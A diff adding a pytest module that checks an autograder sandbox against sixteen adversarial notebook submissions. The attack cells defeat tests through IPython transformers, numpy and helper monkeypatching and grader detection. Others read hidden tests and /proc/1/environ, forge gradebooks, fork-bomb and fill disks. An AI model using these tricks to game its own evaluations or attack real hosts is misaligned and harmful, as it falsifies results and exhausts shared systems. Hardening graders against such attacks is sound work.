@@ -1,0 +1,554 @@
+"""Cheating submissions of the real fc_nets assignment, graded end to end (issue 4, acceptance 1).
+
+Each attack is a submission built from a notebook whose honest score is known (see ``adversarial_cases``):
+the solution (30 points), the blank release (0) or wrong code for every exercise (0). The tricks are the
+ones that fool plain ``nbgrader autograde``, which runs the test cells inside the student's kernel: IPython
+input and AST transformers, patched numpy comparisons and grading helpers, a grader detector that switches
+the cheats on, signal/trace/atexit hooks, edited test cells and metadata, fake saved outputs, hard-coded
+visible answers; and the attacks on the grading host: writing the gradebook and the outputs, reading the
+hidden tests and the solutions, listing the other students, fork bombs, huge files.
+
+The whole batch is graded once (module fixture) by :func:`autograder.batch.grade_assignment` on two Dask
+workers, on a copy of the course; every test then checks one property of what was written. Each attack
+must score exactly what its code deserves, and nothing written for a student may hold hidden-test or
+solution lines or another student's id.
+"""
+
+from __future__ import annotations
+
+import sqlite3
+import time
+
+import adversarial_cases as ac
+import numpy as np
+import pandas as pd
+import pytest
+
+from autograder.pipeline import GradingOptions
+from autograder.results import validate_results
+
+PREFIX = "a"
+OPTIONS = GradingOptions(cell_timeout=30.0, test_timeout=60.0, submission_timeout=600.0)
+
+# --------------------------------------------------------------------------- the attack cells
+
+INPUT_TRANSFORMER = """\
+# Blank every later cell, test cells included: a grader that runs the test cells here sees them pass.
+get_ipython().input_transformers_post.append(lambda lines: [])
+print("ATTACK-RAN input transformer installed")
+"""
+
+AST_TRANSFORMER = """\
+# Every later cell: asserts become `pass` and every top-level statement is wrapped in try/except,
+# so no test cell run in this kernel can fail.
+import ast
+
+
+class _Defang(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+
+    def visit_Module(self, node):
+        self.generic_visit(node)
+        swallow = [ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])]
+        node.body = [ast.Try(body=[stmt], handlers=swallow, orelse=[], finalbody=[]) for stmt in node.body]
+        return ast.fix_missing_locations(node)
+
+
+get_ipython().ast_transformers.append(_Defang())
+print("ATTACK-RAN AST transformer installed")
+"""
+
+NUMPY_PATCH = """\
+# Every comparison numpy offers agrees, and every norm/maximum is 0 (so relative errors are 0).
+import numpy as np
+
+np.allclose = lambda *args, **kwargs: True
+np.array_equal = lambda *args, **kwargs: True
+np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
+np.testing.assert_allclose = lambda *args, **kwargs: None
+np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
+np.testing.assert_array_equal = lambda *args, **kwargs: None
+np.linalg.norm = lambda *args, **kwargs: 0.0
+np.max = lambda *args, **kwargs: 0.0
+print("ATTACK-RAN numpy comparisons patched")
+"""
+
+HELPER_PATCH = """\
+# The grading helpers: the course library's rel_error returns 0 everywhere, and the grader's hidden-test
+# module is replaced by one whose checks do nothing -- in sys.modules and as files next to the notebook.
+import importlib
+import os
+import sys
+import types
+
+import course_lib.gradient_check as _gc
+
+_gc.rel_error = lambda *args, **kwargs: 0.0
+rel_error = _gc.rel_error
+
+
+def _noop(*args, **kwargs):
+    return None
+
+
+for _name in ("autograder", "autograder.checks", "autograder.checks.fc_nets"):
+    try:
+        _mod = importlib.import_module(_name)
+        print("imported", _name, "from", getattr(_mod, "__file__", "?"))
+    except Exception as exc:
+        print("cannot import", _name, "-", type(exc).__name__)
+        _mod = types.ModuleType(_name)
+        _mod.__path__ = []
+        sys.modules[_name] = _mod
+_fake = sys.modules["autograder.checks.fc_nets"]
+_fake.__getattr__ = lambda name: _noop
+sys.modules["autograder.checks"].fc_nets = _fake
+sys.modules["autograder"].checks = sys.modules["autograder.checks"]
+os.makedirs("autograder/checks", exist_ok=True)
+for _path, _text in (("autograder/__init__.py", ""), ("autograder/checks/__init__.py", ""),
+                     ("autograder/checks/fc_nets.py", "def __getattr__(name):\\n    return lambda *a, **k: None\\n")):
+    with open(_path, "w") as _f:
+        _f.write(_text)
+with open("course_lib/gradient_check.py", "a") as _f:
+    _f.write("\\n\\ndef rel_error(x, y):\\n    return 0.0\\n")
+print("ATTACK-RAN grading helpers replaced")
+"""
+
+FS_WRITE = """\
+# Write extra credit into every gradebook that can be found, and forge the output files.
+import glob
+import os
+import sqlite3
+
+
+def _parents(path):
+    path = os.path.abspath(path)
+    while True:
+        yield path
+        if os.path.dirname(path) == path:
+            return
+        path = os.path.dirname(path)
+
+
+_dbs = {os.path.join(d, "gradebook.db") for d in _parents(".")}
+_dbs |= {TARGET["course"] + "/gradebook.db", TARGET["repo"] + "/gradebook.db", "/work/main/gradebook.db",
+         "../../../gradebook.db", "../../gradebook.db", "../gradebook.db"}
+_dbs |= set(glob.glob("/*/gradebook.db") + glob.glob("/*/*/gradebook.db") + glob.glob("/tmp/**/gradebook.db",
+                                                                                        recursive=True))
+for _db in sorted(_dbs):
+    try:
+        _con = sqlite3.connect(f"file:{_db}?mode=rw", uri=True)
+        _con.execute("UPDATE grade SET extra_credit = 100, auto_score = max_score")
+        _con.commit()
+        print("WROTE gradebook", _db)
+    except Exception as exc:
+        print("could not write", _db, "-", type(exc).__name__)
+try:
+    from nbgrader.api import Gradebook
+
+    with Gradebook("sqlite:///" + TARGET["course"] + "/gradebook.db") as _gb:
+        _gb.add_student("zz-intruder")
+    print("WROTE gradebook via nbgrader.api")
+except Exception as exc:
+    print("nbgrader.api could not write -", type(exc).__name__)
+_forged = '{"score": 1000, "tests": []}'
+for _path in [TARGET["out"] + "/grades.csv", TARGET["out"] + "/" + TARGET["student"] + "/results.json",
+              TARGET["out"] + "/" + TARGET["student"] + "/feedback.html", TARGET["out"] + "/PWNED",
+              TARGET["course"] + "/PWNED", TARGET["submissions"] + "/PWNED", TARGET["repo"] + "/PWNED",
+              "../../../grades.csv", "../../../" + TARGET["student"] + "/results.json", "../../grades.csv",
+              "../results.json", "../PWNED"]:
+    try:
+        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)
+        with open(_path, "w") as _f:
+            _f.write(_forged)
+        print("wrote (in its own view)", _path)
+    except Exception as exc:
+        print("could not write", _path, "-", type(exc).__name__)
+print("ATTACK-RAN gradebook and output writes attempted")
+"""
+
+FS_READ = """\
+# Read the hidden tests, the solutions and the reference library wherever they might be; print them.
+import glob
+import importlib.util
+import os
+
+_paths = set()
+for _pattern in ["../../../source/**/*", "../../source/**/*", "../source/**/*", "/proc/1/root/**/source/**/*.ipynb",
+                 TARGET["course"] + "/source/**/*", TARGET["repo"] + "/source/**/*",
+                 TARGET["repo"] + "/autograder/checks/*.py", TARGET["course"] + "/autograder/checks/*.py",
+                 TARGET["repo"] + "/course_lib/*.py", "/work/main/source/fc_nets/fc_nets.ipynb",
+                 "/work/main/autograder/checks/*.py", "/work/main/course_lib/*.py", "/srv/**/*.ipynb",
+                 "/home/**/*.ipynb", "/root/**/*.py", "/tmp/**/*.ipynb", "/tmp/**/*.py"]:
+    _paths |= {p for p in glob.glob(_pattern, recursive=True) if os.path.isfile(p)}
+for _name in ("autograder", "autograder.checks", "course_lib"):
+    try:
+        _spec = importlib.util.find_spec(_name)
+    except Exception:
+        _spec = None
+    for _loc in (_spec.submodule_search_locations or []) if _spec else []:
+        if os.path.abspath(_loc) != os.path.abspath("course_lib"):  # the released copy is no secret
+            _paths |= set(glob.glob(os.path.join(_loc, "*.py")))
+_paths |= {"/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/root/etc/hostname"}
+_read = 0
+for _p in sorted(_paths):
+    try:
+        with open(_p, errors="replace") as _f:
+            print("=== READ", _p, "\\n", _f.read()[:20000])
+        _read += 1
+    except Exception as exc:
+        print("could not read", _p, "-", type(exc).__name__)
+print("ATTACK-RAN read", _read, "files")
+"""
+
+FS_LIST = """\
+# List every folder where other students' submissions or results might be, and every process.
+import os
+
+for _d in ["..", "../..", "../../..", "../../../submitted", "../../../autograded", TARGET["submissions"],
+           TARGET["out"], TARGET["course"], TARGET["course"] + "/autograded", os.path.dirname(TARGET["out"]),
+           "/tmp", "/", "/sandbox", "/work", "/home", "/root", "/srv", "/dev/shm"]:
+    try:
+        print("LIST", _d, sorted(os.listdir(_d)))
+    except Exception as exc:
+        print("could not list", _d, "-", type(exc).__name__)
+for _pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
+    try:
+        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
+            print("PROC", _pid, _f.read().replace(b"\\0", b" ").decode(errors="replace"))
+    except Exception as exc:
+        print("could not read process", _pid, "-", type(exc).__name__)
+print("ENV", dict(os.environ))
+print("ATTACK-RAN listed")
+"""
+
+FORK_BOMB = """\
+# A process left running, a daemon that leaves the session, then fork until the process limit says no.
+import os
+import subprocess
+
+subprocess.Popen(["sleep", "1357.25"])
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "1357.5"])
+    os._exit(0)
+_children = 0
+try:
+    while True:
+        if os.fork() == 0:
+            os.execvp("sleep", ["sleep", "1357.75"])
+        _children += 1
+except OSError as exc:
+    print("fork bomb stopped after", _children, "processes:", exc)
+print("ATTACK-RAN fork bomb")
+"""
+
+SIGNAL_TRICKS = """\
+# Ignore every catchable signal, swallow every error of later cells, make every `expected_*` variable of a
+# running cell equal to the student's value (sys.settrace), fake a success banner at exit.
+import atexit
+import builtins
+import signal
+import sys
+import threading
+
+for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2,
+             signal.SIGALRM, signal.SIGXCPU, signal.SIGXFSZ, signal.SIGPIPE):
+    signal.signal(_sig, signal.SIG_IGN)
+
+
+def _tracer(frame, event, arg):
+    if not frame.f_code.co_filename.startswith("<ipython-input"):
+        return None
+    g = frame.f_globals
+    for k in [k for k in g if isinstance(k, str) and k.startswith("expected_")]:
+        if k[len("expected_"):] in g:
+            g[k] = g[k[len("expected_"):]]
+    return _tracer
+
+
+sys.settrace(_tracer)
+threading.settrace(_tracer)
+get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+atexit.register(lambda: print("All tests passed. Score: 30/30"))
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+print("ATTACK-RAN signal, trace and atexit hooks installed")
+"""
+
+DETECT_GRADER = """\
+# Detect the grader (environment, loaded modules, process tree, files); when found, switch on every cheat.
+import builtins
+import os
+import sys
+
+_seen = {
+    "env": sorted(k for k in os.environ if any(w in k.upper() for w in ("GRAD", "NBGRADER", "JUPYTER", "JPY", "CI"))),
+    "modules": sorted(m for m in sys.modules if m.split(".")[0] in ("nbgrader", "autograder", "nbclient",
+                                                                   "ipykernel", "jupyter_client", "pytest")),
+    "argv": sys.argv, "cwd": os.getcwd(), "files": sorted(os.listdir(".")), "uid": os.getuid(),
+}
+try:
+    _seen["pid1"] = open("/proc/1/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
+except OSError as exc:
+    _seen["pid1"] = type(exc).__name__
+print("DETECTED", _seen)
+if _seen["env"] or _seen["modules"] or "kernel_server" in _seen["pid1"]:
+    import numpy as np
+
+    import course_lib.gradient_check as _gc
+
+    np.allclose = np.array_equal = lambda *args, **kwargs: True
+    np.linalg.norm = np.max = lambda *args, **kwargs: 0.0
+    _gc.rel_error = rel_error = lambda *args, **kwargs: 0.0
+    builtins.AssertionError = type("AssertionError", (Exception,), {})
+    print("grader detected: cheats on")
+print("ATTACK-RAN grader detection")
+"""
+
+HUGE_FILE = """\
+# Fill the disk: 1 GiB into the notebook's folder, /tmp and /dev/shm.
+import os
+
+for _path in ("huge.bin", "/tmp/huge.bin", "/dev/shm/huge.bin"):
+    try:
+        with open(_path, "wb") as _f:
+            for _ in range(1024):
+                _f.write(b"\\0" * (1 << 20))
+        print("wrote", _path, os.path.getsize(_path))
+    except OSError as exc:
+        print("stopped writing", _path, "at", os.path.getsize(_path), "bytes:", exc)
+print("ATTACK-RAN huge files")
+"""
+
+FAKE_OUTPUT = "FAKE-SAVED-OUTPUT-q9: all visible checks passed"
+OPTIMIZERS = {"sgd_momentum": ("velocity",), "sgd_nesterov_momentum": ("velocity",), "rmsprop": ("cache",),
+              "adam": ("m", "v")}
+
+
+def _hardcoded(course: ac.Course, targets: ac.Targets, student: str) -> bytes:
+    """The solution, but the four update rules return the visible checks' expected arrays, whatever the input."""
+    from course_lib import gradient_check, optim
+
+    nb = course.examples()["solution"]
+    for name, state in OPTIMIZERS.items():
+        test = next(c for c in course.source.cells if ac._nbg(c).get("grade_id") == f"test_{name}")
+        ns = {name: getattr(optim, name), "rel_error": gradient_check.rel_error}
+        exec(test.source.split("### BEGIN HIDDEN TESTS")[0], ns)  # the visible part, with the reference rule
+        values = {k: ns[f"expected_{k}"].tolist() for k in state}
+        if name == "adam":
+            values["t"] = 6
+        nb = ac.replace_solution(nb, name, (
+            f"def {name}(w, dw, config=None):\n"
+            "    config = {} if config is None else config\n"
+            f"    config.update({{k: np.array(v) if isinstance(v, list) else v for k, v in {values!r}.items()}})\n"
+            f"    return np.array({ns['expected_next_w'].tolist()!r}), config"))
+    return ac.as_bytes(nb)
+
+
+def _edited(course: ac.Course, targets: ac.Targets, student: str) -> bytes:
+    """The partial notebook with its test cells and metadata edited, reordered, and fake passing outputs."""
+    import nbformat
+
+    nb = course.examples()["partial"]
+    by_id = {ac._nbg(c).get("grade_id"): c for c in nb.cells if ac._nbg(c).get("grade_id")}
+    nb.cells.remove(by_id["test_relu_forward"])  # a deleted test cell (its exercise is solved)
+    for cell in nb.cells:
+        meta = ac._nbg(cell)
+        if meta.get("grade"):
+            meta["points"] = 100
+        if cell.cell_type == "code":
+            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=FAKE_OUTPUT + "\n")]
+    ac._nbg(by_id["test_affine_backward"])["grade_id"] = "test_affine_backward_v2"
+    for gid in ("test_FullyConnectedNet", "test_adam", "test_rmsprop"):  # unsolved: their checks emptied
+        by_id[gid].source = "pass"
+    ac._nbg(by_id["test_sgd_momentum"])["grade_id"] = "test_affine_forward"  # a duplicated grade_id
+    nb.cells.remove(by_id["adam"])  # reordered: the last exercise first, relu_backward before relu_forward
+    nb.cells.insert(ac.setup_index(nb) + 1, by_id["adam"])
+    nb.cells.remove(by_id["relu_backward"])
+    nb.cells.insert(nb.cells.index(by_id["relu_forward"]), by_id["relu_backward"])
+    bonus = ac.code_cell("print('bonus')", "bonus")
+    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus",
+                                  "points": 1000, "schema_version": 3}
+    nb.cells.append(bonus)
+    nb.metadata["nbgrader"] = {"score": 30}
+    return ac.as_bytes(nb)
+
+
+SOLVED_IN_PARTIAL = frozenset({"test_affine_forward", "test_affine_backward", "test_relu_forward",
+                               "test_relu_backward", "test_softmax_loss"})
+ALL = None  # every test
+
+CASES = [  # the slowest first (see adversarial_cases.student_id)
+    ac.Case("forkbomb", "background process, setsid daemon, fork bomb", "solution",
+            ac.example("solution", [FORK_BOMB]), ALL),
+    ac.Case("signals", "signals ignored, settrace, custom exc handler, atexit, AssertionError", "wrong",
+            ac.example("wrong", [SIGNAL_TRICKS])),
+    ac.Case("hugefile", "writes 1 GiB files (RLIMIT_FSIZE)", "solution", ac.example("solution", [HUGE_FILE]), ALL),
+    ac.Case("solution", "the solution notebook (control)", "solution", ac.example("solution"), ALL),
+    ac.Case("blank", "the blank release (control)", "blank", ac.example("blank")),
+    ac.Case("wrong", "wrong code for every exercise (control)", "wrong", ac.example("wrong")),
+    ac.Case("inputtransformer", "input transformer blanking every later cell", "blank",
+            ac.example("blank", [INPUT_TRANSFORMER])),
+    ac.Case("asttransformer", "AST transformer: assert -> pass, errors swallowed", "blank",
+            ac.example("blank", [AST_TRANSFORMER])),
+    ac.Case("numpypatch", "numpy comparisons/norms patched to agree", "wrong", ac.example("wrong", [NUMPY_PATCH])),
+    ac.Case("helperpatch", "rel_error and autograder.checks replaced (modules and files)", "wrong",
+            ac.example("wrong", [HELPER_PATCH])),
+    ac.Case("fswrite", "writes extra credit into gradebooks, forges grades.csv/results.json", "blank",
+            ac.example("blank", [FS_WRITE])),
+    ac.Case("fsread", "reads source notebook, checks and reference library, prints them", "blank",
+            ac.example("blank", [FS_READ])),
+    ac.Case("fslist", "lists submissions, outputs, processes, environment", "blank",
+            ac.example("blank", [FS_LIST])),
+    ac.Case("detect", "detects the grader, then switches every cheat on", "wrong",
+            ac.example("wrong", [DETECT_GRADER])),
+    ac.Case("hardcoded", "update rules return the visible checks' answers", "solution", _hardcoded,
+            frozenset({"test_affine_forward", "test_affine_backward", "test_relu_forward", "test_relu_backward",
+                       "test_softmax_loss", "test_FullyConnectedNet", "test_overfit_settings"})),
+    ac.Case("celledits", "test cells deleted/emptied/reordered, points and grade_ids changed, fake outputs",
+            "partial", _edited, SOLVED_IN_PARTIAL),
+]
+ATTACKS = [c.name for c in CASES if c.name not in ("solution", "blank", "wrong")]
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    yield from ac.graded(tmp_path_factory, "adversarial", PREFIX, CASES, OPTIONS)
+
+
+# --------------------------------------------------------------------------- scores
+
+def test_controls_score_full_marks_and_zero(batch):
+    print("\n" + batch.report())
+    assert batch.results("solution")["score"] == batch.course.max_score == 30
+    assert batch.results("blank")["score"] == 0 and batch.results("wrong")["score"] == 0
+    assert batch.summary.graded == len(CASES) and batch.summary.grader_errors == []
+
+
+@pytest.mark.parametrize("name", [c.name for c in CASES])
+def test_each_submission_scores_exactly_what_its_code_deserves(batch, name):
+    case, doc = batch.case(name), batch.results(name)
+    validate_results(doc)
+    assert batch.passing(name) == case.expected_passing(batch.course), doc["output"]
+    assert doc["score"] == case.expected_score(batch.course)
+    # tests and points come from the source notebook, whatever the submission's metadata says
+    assert {g: t["max_score"] for g, t in batch.tests(name).items()} == batch.course.points
+    assert not doc["extra_data"]["grader_error"]
+    assert batch.summary.scores[batch.sid(name)] == (doc["score"], 30.0)
+
+
+@pytest.mark.parametrize("name", [n for n in ATTACKS if n not in ("hardcoded", "celledits")])
+def test_each_attack_cell_really_ran(batch, name):
+    assert ac.RAN in batch.outputs(name)
+
+
+def test_hard_coded_answers_pass_the_visible_checks_only(batch):
+    tests = batch.tests("hardcoded")
+    for rule in OPTIMIZERS:
+        message = tests[f"test_{rule}"]["output"]
+        assert message.startswith(f"{rule}, step 1 from config"), message  # a hidden check's message
+
+
+def test_cells_run_in_the_kernel_cannot_change_the_verdicts(batch):
+    """What the transformers and hooks did to the kernel is visible in its own outputs, not in the scores."""
+    # the student's own gradient checks now report 0 errors, with wrong code
+    assert "dx error: 0.0" in batch.outputs("numpypatch") and "dx error: 0.0" in batch.outputs("signals")
+    out = batch.outputs("helperpatch")
+    assert "cannot import autograder - ModuleNotFoundError" in out  # the grader's code is not in the sandbox
+    out = batch.outputs("detect")
+    assert "grader detected: cheats on" in out and "'COURSE_GRADING'" in out  # it is set, and helps nothing
+    assert "autograder" not in out.split("'modules': ")[1].split("]")[0]
+
+
+# --------------------------------------------------------------------------- the grading host
+
+def test_gradebook_and_outputs_hold_the_honest_scores(batch):
+    from nbgrader.api import Gradebook
+
+    from autograder.gradebook import course_settings
+
+    out = batch.targets.out
+    df = pd.read_csv(out / "grades.csv").set_index("student")
+    assert sorted(df.index) == sorted(batch.ids)
+    db_url, course_id = course_settings(batch.course.root)
+    with Gradebook(db_url, course_id) as gb:
+        assert sorted(s.id for s in gb.students) == sorted(batch.ids)  # no intruder row
+        for case in CASES:
+            sid = batch.sid(case.name)
+            expected = case.expected_score(batch.course)
+            assert df.loc[sid, "score"] == expected
+            assert gb.find_submission(ac.ASSIGNMENT, sid).score == expected
+    with sqlite3.connect(db_url.removeprefix("sqlite:///")) as con:
+        assert con.execute("SELECT COUNT(*) FROM grade WHERE extra_credit IS NOT NULL AND extra_credit != 0"
+                           ).fetchone() == (0,)
+    forged = [p for root in (out, batch.course.root, batch.targets.submissions, ac.REPO, out.parent)
+              for p in root.rglob("PWNED")]
+    assert forged == []
+    out = batch.outputs("fswrite")
+    assert "could not write /work/main/gradebook.db" in out and "WROTE" not in out
+
+
+def test_no_hidden_tests_solutions_or_reference_code_in_anything_written_for_a_student(batch):
+    secrets = batch.course.secrets()
+    assert all(secrets.values())
+    for sid in batch.ids:
+        assert ac.leaks(batch, sid, secrets) == [], sid
+    out = batch.outputs("fsread")
+    assert "=== READ /proc/self/mountinfo" in out and "could not read /proc/1/environ" in out
+
+
+def test_no_other_students_id_in_anything_written_for_a_student(batch):
+    for sid in batch.ids:
+        files = batch.written_for(sid)
+        assert any(p.endswith("feedback.html") for p in files) and any(p.endswith("results.json") for p in files)
+        for path, text in files.items():
+            others = [o for o in batch.ids if o != sid and o in text]
+            assert others == [], (path, others)
+    out = batch.outputs("fslist")
+    assert "LIST /sandbox ['server', 'work']" in out and "could not list " + str(batch.targets.submissions) in out
+
+
+def test_process_and_file_limits_stop_bombs_cleanly(batch):
+    out = batch.outputs("forkbomb")
+    assert "fork bomb stopped after" in out and "Resource temporarily unavailable" in out
+    out = batch.outputs("hugefile")
+    assert out.count("File too large") + out.count("No space left") == 3 and "wrote " not in out
+
+
+def test_no_process_is_left_running(batch):
+    assert ac.wait_until_gone("sleep 1357.") == []  # the fork bomb's and the daemons' processes
+    assert ac.processes_matching(str(batch.scratch)) == []  # this batch's kernels and supervisors
+    assert batch.leftovers() == []  # workdirs and kernel staging removed
+
+
+def test_saved_outputs_of_a_submission_are_never_shown(batch):
+    assert FAKE_OUTPUT not in batch.feedback("celledits")
+
+
+def test_no_input_or_project_file_changes(batch):
+    assert batch.input_changes() == []
+    assert batch.repo_changes() == []  # tracked files and root grading outputs, while grading
+
+
+# --------------------------------------------------------------------------- one sandbox, another's bomb
+
+def test_a_fork_bomb_does_not_starve_other_students_kernels(tmp_path):
+    """Processes are counted per uid (RLIMIT_NPROC): each kernel must have its own."""
+    from autograder.sandbox import Limits, StudentKernel, namespace_support
+
+    assert namespace_support()[0], "the grading host must support namespace isolation"
+    limits = Limits(cell_timeout=60.0)
+    with StudentKernel(tmp_path, limits=limits) as bomber:
+        res = bomber.run_cell(FORK_BOMB.replace("1357.", "2468."))
+        assert res.status == "ok" and "fork bomb stopped" in res.outputs[0]["text"]
+        t0 = time.monotonic()
+        for _ in range(2):  # started while the bomb's processes are alive, as on another Dask worker
+            with StudentKernel(tmp_path, limits=limits) as other:
+                res = other.run_cell("import subprocess\nfrom numpy import sum\n"
+                                     "print(subprocess.run(['echo', 'fine'], capture_output=True, text=True).stdout)")
+                assert res.status == "ok" and res.outputs[0]["text"] == "fine\n\n", res
+                assert other.call("sum", np.ones(3)) == 3  # a remote call still works
+        assert time.monotonic() - t0 < 60
+    assert ac.wait_until_gone("sleep 2468.") == []
